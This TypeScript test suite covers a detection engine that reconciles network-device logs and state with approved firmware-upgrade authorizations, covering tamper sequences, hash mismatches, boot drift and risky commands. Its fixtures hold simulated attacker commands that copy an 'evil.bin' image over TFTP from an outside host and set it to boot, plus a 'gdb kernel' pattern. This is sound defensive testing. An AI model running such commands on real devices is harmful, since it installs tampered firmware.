import type { DeviceEvent } from '../model/event.js';
import type { Finding } from '../model/finding.js';
import { device, ev, ledger, model, NEW, OLD, REVOKED, state, stateFile, upgrade, upgradeEvents } from './__fixtures__/synthetic.js';
import { reconcile } from './engine.js';
import type { ReconcileInput } from './types.js';

const AT = '2026-12-05T08:00:00.000Z';
// window: 2026-12-05T00:00Z .. 04:00Z
const IN_WINDOW = '2026-12-05T01:00:00.000Z';

function input(over: Partial<ReconcileInput> = {}): ReconcileInput {
  return {
    model: model(),
    ledger: ledger([upgrade()]),
    states: stateFile([state('fra1-acc-01'), state('fra1-acc-02')]),
    events: [],
    at: AT,
    ...over,
  };
}

const rulesOf = (fs: Finding[]): string[] => fs.map((f) => f.rule).sort();
const byRule = (fs: Finding[], rule: string): Finding[] => fs.filter((f) => f.rule === rule);

describe('reconcile: the approved upgrade and its negative cases', () => {
  it('an approved upgrade by the automation account inside its window yields no finding', async () => {
    const r = await reconcile(input({ events: upgradeEvents(IN_WINDOW) }));
    expect(r.findings).toEqual([]);
    expect(r.coverage).toMatchObject({ devicesExpected: 2, verified: 2, unverified: [] });
    expect(r.coverage.eventFiles).toEqual([{ path: '/var/log/net/fra1.log', lines: 0, events: 3, skipped: 0 }]);
  });

  it('the same events one hour after the window yield unauthorized-* and a tamper sequence', async () => {
    const r = await reconcile(input({ events: upgradeEvents('2026-12-05T05:00:00.000Z') }));
    expect(rulesOf(r.findings)).toEqual(['tamper-sequence', 'unauthorized-boot-change', 'unauthorized-reload', 'unauthorized-transfer']);
    for (const f of byRule(r.findings, 'unauthorized-transfer')) {
      expect(f.reasons).toEqual([expect.stringMatching(/^outside window: 2026-12-05T05:00:00.000Z is not within/)]);
      expect(f.authorization).toEqual({ commit: upgrade().commit, ticket: 'CHG-1001', pr: 12 });
      expect(f.evidence[0]).toMatchObject({ kind: 'log', path: '/var/log/net/fra1.log' });
      expect(f.attack).toEqual({ technique: 'T1601.001', parent: 'T1601', analytic: 'AN1293', detectionStrategy: 'DET0469' });
    }
    const seq = byRule(r.findings, 'tamper-sequence')[0];
    expect(seq?.severity).toBe('critical');
    expect(seq?.evidence).toHaveLength(3);
    expect(r.findings[0]?.rule).toBe('tamper-sequence');
  });

  it('a window end within the clock skew tolerance is still inside', async () => {
    const r = await reconcile(input({ events: [upgradeEvents('2026-12-05T04:01:00.000Z')[0] as DeviceEvent] }));
    expect(r.findings).toEqual([]);
  });

  it('events before the merge yield findings even inside the window', async () => {
    const late = upgrade({ mergedAt: '2026-12-05T02:00:00.000Z' });
    const r = await reconcile(input({ ledger: ledger([late]), events: upgradeEvents('2026-12-05T00:30:00.000Z') }));
    const transfer = byRule(r.findings, 'unauthorized-transfer')[0];
    expect(transfer?.reasons).toEqual([expect.stringMatching(/^before merge: the change was merged at 2026-12-05T02:00:00.000Z/)]);
    expect(byRule(r.findings, 'tamper-sequence')).toHaveLength(1);
  });

  it('names each failed check: identity, file, protocol', async () => {
    const events = [
      ev({ ts: IN_WINDOW, kind: 'transfer', actor: 'bob', command: 'copy tftp://10.9.9.9/evil.bin flash:', file: 'evil.bin', protocol: 'tftp' }),
      ev({ ts: IN_WINDOW, kind: 'reload', actor: 'mallory', command: 'reload' }),
      ev({ ts: '2026-12-05T01:30:00.000Z', kind: 'reload', actor: null, command: 'reload' }),
      ev({ ts: IN_WINDOW, kind: 'reload', actor: 'alice', command: 'reload' }),
    ];
    const r = await reconcile(input({ events }));
    const transfer = byRule(r.findings, 'unauthorized-transfer')[0];
    expect(transfer?.reasons).toEqual([
      expect.stringMatching(/^identity not allowed: bob .* may not do image work/),
      expect.stringMatching(/^wrong file: evil.bin is not the approved image/),
      expect.stringMatching(/^protocol not allowed: tftp is not in policies\/change.yaml/),
    ]);
    const reloads = byRule(r.findings, 'unauthorized-reload').map((f) => f.reasons[0]);
    expect(reloads).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/account "mallory" is not in policies\/identities.yaml/),
        expect.stringMatching(/names no user/),
        expect.stringMatching(/alice \(account "alice"\) is not the executor svc-imagegate/),
      ]),
    );
  });

  it('one act logged by TACACS+, syslog and the TFTP server is one finding with every line as evidence', async () => {
    const at = '2026-12-06T10:00:00.000Z';
    const events = [
      ev({ ts: at, kind: 'transfer', actor: 'bob', command: 'copy tftp://10.9.9.9/evil.bin flash:', file: 'evil.bin', protocol: 'tftp', source: { path: 'tacacs.acct', line: 3, format: 'tacacs' } }),
      ev({ ts: '2026-12-06T10:00:01.000Z', kind: 'transfer', actor: null, host: '10.9.9.9', file: 'evil.bin', protocol: 'tftp', source: { path: 'tftpd.log', line: 9, format: 'tftpd-hpa' } }),
    ];
    const r = await reconcile(input({ events }));
    const t = byRule(r.findings, 'unauthorized-transfer');
    expect(t).toHaveLength(1);
    expect(t[0]?.evidence.map((e) => (e.kind === 'log' ? e.path : ''))).toEqual(['tacacs.acct', 'tftpd.log']);
    // reversed file order, same finding
    const again = await reconcile(input({ events: events.slice().reverse() }));
    expect(byRule(again.findings, 'unauthorized-transfer')[0]?.fingerprint).toBe(t[0]?.fingerprint);
  });

  it('a log line without a user is the authorized act another log attributes, not a finding', async () => {
    const [transfer] = upgradeEvents(IN_WINDOW);
    if (!transfer) throw new Error('no event');
    const server = { ...transfer, actor: null, command: null, source: { path: 'scp-server.log', line: 1, format: 'syslog' } };
    expect((await reconcile(input({ events: [server, transfer] }))).findings).toEqual([]);
    // alone, nothing says who did it: fail closed
    const alone = await reconcile(input({ events: [server] }));
    expect(alone.findings.map((f) => [f.rule, f.reasons])).toEqual([['unauthorized-transfer', [expect.stringMatching(/names no user/)]]]);
  });

  it('says "no authorization" for a device with none, and judges withdrawn authorizations as such', async () => {
    const r = await reconcile(input({ events: [ev({ ts: IN_WINDOW, kind: 'reload', device: 'fra1-acc-02', command: 'reload' })] }));
    expect(byRule(r.findings, 'unauthorized-reload')[0]?.reasons).toEqual([expect.stringMatching(/^no authorization/)]);
    const w = await reconcile(input({ ledger: ledger([upgrade({ status: 'withdrawn' })]), events: upgradeEvents(IN_WINDOW).slice(2) }));
    expect(byRule(w.findings, 'unauthorized-reload')[0]?.reasons).toEqual([expect.stringMatching(/withdrawn by a revert/)]);
    // the upgrade was done while the authorization was in force; a revert afterwards does not make it unauthorized
    const revertedLater = { ...ledger([upgrade({ status: 'withdrawn' })]), contextOf: () => ({ endedAt: '2026-12-06T00:00:00.000Z' }) };
    expect((await reconcile(input({ ledger: revertedLater, events: upgradeEvents(IN_WINDOW) }))).findings).toEqual([]);
  });

  it('an unsynchronized clock does not hide a tamper sequence', async () => {
    // the device clock says 1993; the TFTP server log (synced) says when the image really arrived
    const events = [
      ev({ ts: '2026-12-05T12:00:00.000Z', kind: 'transfer', actor: null, host: '10.9.9.9', file: 'evil.bin', protocol: 'tftp', source: { path: '/var/log/tftpd.log', line: 7, format: 'tftpd-hpa' } }),
      ev({ ts: '1993-03-01T00:10:00.000Z', kind: 'boot-change', actor: 'bob', command: 'boot system flash:evil.bin', file: 'evil.bin', clock: 'unsynced' }),
      ev({ ts: '1993-03-01T00:12:00.000Z', kind: 'reload', actor: 'bob', command: 'reload', clock: 'unsynced' }),
    ];
    const r = await reconcile(input({ events }));
    const seq = byRule(r.findings, 'tamper-sequence');
    expect(seq).toHaveLength(1);
    expect(seq[0]?.severity).toBe('critical');
    expect(seq[0]?.clock).toBe('unsynced');
    expect(seq[0]?.reasons).toContain('some steps carry an unsynchronized clock: their times are approximate');
    expect(byRule(r.findings, 'clock-untrusted')[0]).toMatchObject({ device: 'fra1-acc-01', severity: 'low', clock: 'unsynced' });
  });

  it('a partial sequence (boot change then reload) is high, and steps beyond the horizon do not correlate', async () => {
    const events = [
      ev({ ts: '2026-12-06T10:00:00.000Z', kind: 'boot-change', actor: 'bob', command: 'boot system flash:x.bin', file: 'x.bin' }),
      ev({ ts: '2026-12-06T10:05:00.000Z', kind: 'reload', actor: 'bob', command: 'reload' }),
      ev({ ts: '2026-12-06T20:00:00.000Z', kind: 'transfer', actor: 'bob', command: 'copy scp://h/y.bin flash:', file: 'y.bin', protocol: 'scp' }),
    ];
    const r = await reconcile(input({ events }));
    const seq = byRule(r.findings, 'tamper-sequence');
    expect(seq.map((f) => [f.severity, f.evidence.length])).toEqual([['high', 2]]);
  });

  it('events arriving out of time order (one file after another) still correlate', async () => {
    const [t, b, rl] = upgradeEvents('2026-12-07T10:00:00.000Z', { actor: 'bob' });
    const r = await reconcile(input({ events: [rl, t, b].filter((e): e is DeviceEvent => e !== undefined) }));
    expect(byRule(r.findings, 'tamper-sequence').map((f) => f.severity)).toEqual(['critical']);
  });
});

describe('reconcile: state rules', () => {
  it('hash-mismatch when the image file on the device does not hash to the catalog value', async () => {
    const bad = state('fra1-acc-02');
    bad.facts.hash = { file: `flash:${NEW.file}`, algorithm: 'sha512', digest: 'e'.repeat(128) };
    const r = await reconcile(input({ states: stateFile([state('fra1-acc-01'), bad]) }));
    expect(r.findings.map((f) => [f.rule, f.device, f.severity])).toEqual([['hash-mismatch', 'fra1-acc-02', 'critical']]);
    expect(r.findings[0]?.evidence[0]).toMatchObject({ kind: 'state', value: 'e'.repeat(128), expected: 'b'.repeat(128) });
    expect(r.findings[0]?.evidence[1]).toMatchObject({ kind: 'git', file: 'policies/images.yaml', line: 20 });
  });

  it('boot-drift and config-register-drift compare what the device loads at next reload', async () => {
    const s = state('fra1-acc-02');
    s.facts.boot = { boot: [`flash:${NEW.file}`], nextBoot: ['flash:evil.bin'], configRegister: '0x2102', nextConfigRegister: '0x2142' };
    const r = await reconcile(input({ states: stateFile([state('fra1-acc-01'), s]) }));
    expect(rulesOf(r.findings)).toEqual(['boot-drift', 'config-register-drift']);
    expect(byRule(r.findings, 'boot-drift')[0]?.evidence[1]).toMatchObject({ kind: 'git', file: 'devices/fra1/fra1-acc-02.yaml', line: 11 });
  });

  it('boot entries that differ only in spelling (flash:/x, FLASH:x, x,1) are equal', async () => {
    const s = state('fra1-acc-02');
    s.facts.boot = { boot: [`FLASH:/${NEW.file},1`], configRegister: '0x02102' };
    const r = await reconcile(input({ states: stateFile([state('fra1-acc-01'), s]) }));
    expect(r.findings).toEqual([]);
  });

  it('image-drift unless an open or upcoming window explains the old image; window-overrun once it closed', async () => {
    const before = '2026-12-04T12:00:00.000Z';
    const onOld = state('fra1-acc-01', {}, OLD);
    const pending = await reconcile(input({ at: before, states: stateFile([onOld, state('fra1-acc-02')]) }));
    expect(pending.findings).toEqual([]);
    const after = await reconcile(input({ states: stateFile([onOld, state('fra1-acc-02')]) }));
    expect(rulesOf(after.findings)).toEqual(['boot-drift', 'window-overrun']);
    const drift = await reconcile(input({ states: stateFile([state('fra1-acc-01'), state('fra1-acc-02', {}, OLD)]) }));
    expect(drift.findings.map((f) => [f.rule, f.device])).toEqual([
      ['boot-drift', 'fra1-acc-02'],
      ['image-drift', 'fra1-acc-02'],
    ]);
  });

  it('install mode (packages.conf) compares by version', async () => {
    const s = state('fra1-acc-02');
    s.facts.version = { image: 'flash:packages.conf', version: '17.12.04' };
    const ok = await reconcile(input({ model: model([device('fra1-acc-01'), device('fra1-acc-02', { boot: { system: ['flash:packages.conf'] } })]), states: stateFile([state('fra1-acc-01'), { ...s, facts: { ...s.facts, boot: { boot: ['flash:packages.conf'] } } }]) }));
    expect(ok.findings).toEqual([]);
  });

  it('revoked-image when a device runs or will boot a revoked image', async () => {
    const s = state('fra1-acc-02', {}, REVOKED);
    const r = await reconcile(input({ states: stateFile([state('fra1-acc-01'), s]) }));
    expect(byRule(r.findings, 'revoked-image')[0]).toMatchObject({ severity: 'critical', summary: expect.stringContaining('runs and will boot revoked image') });
  });

  it('unverified fails closed: a host-key mismatch is high, a missing device medium, neither counts as verified', async () => {
    const hk = state('fra1-acc-02', { status: 'unverified', reason: 'host-key-mismatch', presentedHostKey: 'SHA256:evil', facts: {} });
    const r = await reconcile(input({ states: stateFile([hk]) }));
    expect(r.findings.map((f) => [f.rule, f.device, f.severity])).toEqual([
      ['unverified', 'fra1-acc-02', 'high'],
      ['unverified', 'fra1-acc-01', 'medium'],
    ]);
    expect(r.coverage.verified).toBe(0);
    expect(r.coverage.unverified).toEqual([
      { device: 'fra1-acc-01', reason: 'not-collected' },
      { device: 'fra1-acc-02', reason: 'host-key-mismatch' },
    ]);
  });

  it('facts read before a collection failed still count: drift on an unverified device is reported', async () => {
    const partial = state('fra1-acc-02', { status: 'unverified', reason: 'command-failed', detail: 'verify failed' }, REVOKED);
    delete partial.facts.hash;
    const r = await reconcile(input({ states: stateFile([state('fra1-acc-01'), partial]) }));
    expect(rulesOf(r.findings)).toEqual(['boot-drift', 'image-drift', 'revoked-image', 'unverified']);
  });

  it('unreviewed-change for an authorization pushed without a pull request', async () => {
    const r = await reconcile(input({ ledger: ledger([upgrade({ via: 'direct', pr: null })]) }));
    expect(r.findings.map((f) => [f.rule, f.severity, f.authorization?.commit])).toEqual([['unreviewed-change', 'medium', upgrade().commit]]);
  });
});

describe('reconcile: command and host rules', () => {
  it('risky-command groups per device and pattern, takes severity from policy and skips allowed commands', async () => {
    const events = [
      ev({ ts: IN_WINDOW, kind: 'risky-command', command: 'gdb kernel', pattern: 'gdb' }),
      ev({ ts: IN_WINDOW, kind: 'other', command: 'gdb kernel 2' }),
      ev({ ts: IN_WINDOW, kind: 'other', command: 'debug ip packet detail' }),
      ev({ ts: IN_WINDOW, kind: 'other', command: 'show version' }),
    ];
    const r = await reconcile(input({ events }));
    expect(r.findings.map((f) => [f.rule, f.severity, f.evidence.length])).toEqual([['risky-command', 'critical', 2]]);
  });

  it('unknown-device collects events per host that is in no device file', async () => {
    const events = [
      ev({ ts: IN_WINDOW, kind: 'reload', device: null, host: 'rogue-sw9', command: 'reload' }),
      ev({ ts: IN_WINDOW, kind: 'config-change', device: null, host: 'ROGUE-SW9' }),
      ev({ ts: IN_WINDOW, kind: 'other', device: null, host: 'printer-1' }),
    ];
    const r = await reconcile(input({ events }));
    expect(r.findings.map((f) => [f.rule, f.device, f.severity, f.evidence.length])).toEqual([['unknown-device', 'rogue-sw9', 'medium', 2]]);
  });
});

describe('reconcile: fingerprints and suppressions', () => {
  it('a fingerprint survives a moved log file and shifted line numbers, not a different event', async () => {
    const at5 = upgradeEvents('2026-12-05T05:00:00.000Z');
    const moved = at5.map((e) => ({ ...e, source: { ...e.source, path: '/srv/archive/fra1.log', line: e.source.line + 100 } }));
    const a = await reconcile(input({ events: at5 }));
    const b = await reconcile(input({ events: moved }));
    expect(b.findings.map((f) => f.fingerprint)).toEqual(a.findings.map((f) => f.fingerprint));
    const c = await reconcile(input({ events: upgradeEvents('2026-12-05T06:00:00.000Z') }));
    expect(c.findings.map((f) => f.fingerprint)).not.toContain(a.findings[0]?.fingerprint);
    expect(new Set(a.findings.map((f) => f.fingerprint)).size).toBe(a.findings.length);
  });

  it('a suppression in force hides a finding into `suppressed`; an expired one does not', async () => {
    const m = model();
    m.policies.detection.suppressions = [{ rule: 'unauthorized-reload', device: 'fra1-acc-01', match: 'reload', until: '2027-01-01T00:00:00Z', reason: 'lab' }];
    const r = await reconcile(input({ model: m, events: upgradeEvents('2026-12-05T05:00:00.000Z').slice(2) }));
    expect(r.findings).toEqual([]);
    expect(r.suppressed.map((s) => [s.finding.rule, s.reason])).toEqual([['unauthorized-reload', 'lab']]);
    const later = await reconcile(input({ model: m, at: '2027-02-01T00:00:00Z', events: upgradeEvents('2026-12-05T05:00:00.000Z').slice(2) }));
    expect(rulesOf(later.findings)).toContain('unauthorized-reload');
  });

  it('reads events from an async stream', async () => {
    async function* stream(): AsyncGenerator<DeviceEvent> {
      yield* upgradeEvents('2026-12-05T05:00:00.000Z');
    }
    const r = await reconcile(input({ events: stream() }));
    expect(r.findings.length).toBe(4);
  });
});
